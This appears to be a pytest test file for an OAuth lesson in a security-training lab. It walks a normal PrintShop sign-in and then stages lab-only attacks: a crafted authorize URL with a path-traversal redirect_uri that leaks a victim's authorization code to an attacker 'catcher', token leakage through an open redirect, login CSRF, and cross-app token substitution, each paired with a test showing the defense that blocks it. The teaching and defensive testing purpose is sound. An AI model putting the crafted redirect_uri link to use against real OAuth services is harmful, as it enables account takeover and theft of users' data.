"""Lesson 08's client app (PrintShop), browsers, victim and catcher."""

from __future__ import annotations

import secrets
from collections.abc import Iterator
from urllib.parse import urlsplit

import pytest
from authlib.integrations.httpx_client import OAuth2Client

from labapp.engine.lab import Lab, start
from labapp.lessons.l08_oauth import LESSON, people
from tests.lessons import l08_policy as policy


@pytest.fixture
def lab() -> Iterator[Lab]:
    running = start(LESSON)
    try:
        yield running
    finally:
        running.stop()


def _path(url: str) -> str:
    parts = urlsplit(url)
    return f"{parts.scheme}://{parts.netloc}{parts.path}"


def test_alice_signs_in_at_printshop_and_sees_her_prints(lab: Lab) -> None:
    browser = lab.net.browser("alice")
    answer = browser.get(lab.net.client_url + "/prints")
    assert answer.status_code == 200, browser.flow()
    body = answer.json()
    assert body["shop_user"] == "alice" and body["photo_account"] == "alice"
    assert [p["title"] for p in body["prints"]] == ["Lighthouse at dawn", "Grandma's 90th"]
    shop, issuer = lab.net.client_url, lab.net.issuer
    hops = [(h.method, _path(h.url), h.status, h.note) for h in browser.hops]
    assert hops == [
        ("GET", shop + "/prints", 303, ""),
        ("GET", shop + "/login", 302, ""),
        ("GET", issuer + "/authorize", 200, ""),
        ("POST", issuer + "/login", 303, "login"),
        ("GET", issuer + "/authorize", 200, ""),
        ("POST", issuer + "/authorize", 302, "consent"),
        ("GET", shop + "/shop/callback", 303, ""),
        ("GET", shop + "/prints", 200, ""),
    ]
    assert "code_challenge_method=S256" in browser.hops[2].url
    assert "state=" in browser.hops[2].url and "nonce=" in browser.hops[2].url
    again = browser.get(lab.net.client_url + "/prints")  # the shop's session cookie holds
    assert again.status_code == 200 and len(browser.hops) == 1


def test_a_browser_carries_the_fragment_across_a_redirect(lab: Lab) -> None:
    catcher = lab.net.catcher()
    browser = lab.net.browser()
    browser.get(f"{lab.net.client_url}/next?url={catcher.url}/landing#access_token=t0k")
    assert browser.hops[1].url == f"{catcher.url}/landing#access_token=t0k"
    assert catcher.values("access_token") == ["t0k"]  # posted by the page's script


def crafted_link(lab: Lab, catcher_url: str) -> str:
    """The SPA's authorize URL, its redirect_uri prefix-extended to PrintShop's open redirect."""
    registered = lab.net.clients[people.SPA]["redirect_uris"][0]
    evil = f"{registered}/../../next?url={catcher_url}/steal"
    with OAuth2Client(
        people.SPA, scope="openid photos:read", redirect_uri=evil, code_challenge_method="S256"
    ) as client:
        url, _ = client.create_authorization_url(
            lab.net.issuer + "/authorize", code_verifier=secrets.token_urlsafe(48), nonce="n"
        )
    return url


def test_the_victim_sends_his_code_to_the_attacker_through_a_loose_redirect_uri(lab: Lab) -> None:
    catcher = lab.net.catcher()
    lab.net.victim.visit(crafted_link(lab, catcher.url))
    assert len(catcher.values("code")) == 1, lab.net.victim.flow()
    assert catcher.values("state") and catcher.requests[0].path == "/steal"


def test_exact_redirect_uri_matching_keeps_the_victims_code_home(lab: Lab) -> None:
    lab.defend(check_redirect_uri=policy.check_redirect_uri)
    catcher = lab.net.catcher()
    answer = lab.net.victim.visit(crafted_link(lab, catcher.url))
    assert answer.status_code == 400 and catcher.requests == []


def test_printshop_callback_takes_a_foreign_state_only_with_the_weak_hook(lab: Lab) -> None:
    """Login CSRF: a callback link finished in the attacker's browser signs in the victim's."""

    def attackers_callback() -> str:
        attacker = lab.net.browser("alice")
        callback = lab.net.client_url + "/shop/callback"
        attacker.get(lab.net.client_url + "/login", stop_before=callback)
        assert attacker.url is not None and attacker.url.startswith(callback + "?code=")
        return attacker.url

    victim = lab.net.browser()  # signed in nowhere
    answer = victim.get(attackers_callback())
    assert answer.status_code == 200 and answer.json()["shop_user"] == "alice"

    lab.defend(check_state=lambda expected, received: expected is not None and expected == received)
    victim = lab.net.browser()
    assert victim.get(attackers_callback()).status_code == 403


def test_another_apps_access_token_signs_nobody_in_at_the_old_app(lab: Lab) -> None:
    """bob's access token from quiz-app (another client of the AS): /userinfo names bob, so
    an implicit_user that believes /userinfo would sign the attacker in as bob. PrintShop
    refuses a token not issued to photo-spa before any hook is asked (RFC 6749 §10.16)."""
    import httpx

    from labapp.lessons.l08_oauth.battery import quiz_app_login

    lab.defend(**policy.SOUND)
    with httpx.Client(timeout=10) as http:
        token = quiz_app_login(lab, http, "bob", "n").json()
    with httpx.Client(base_url=lab.net.client_url, timeout=10) as shop:
        answer = shop.post("/spa/session", data={"access_token": token["access_token"]})
        assert answer.status_code == 401 and "Not this app" in answer.text
        assert shop.get("/prints", follow_redirects=False).status_code == 303
    denied = [(r["action"], r["reason"]) for r in lab.audit("deny")]
    assert ("POST /spa/session", "access token of another app") in denied
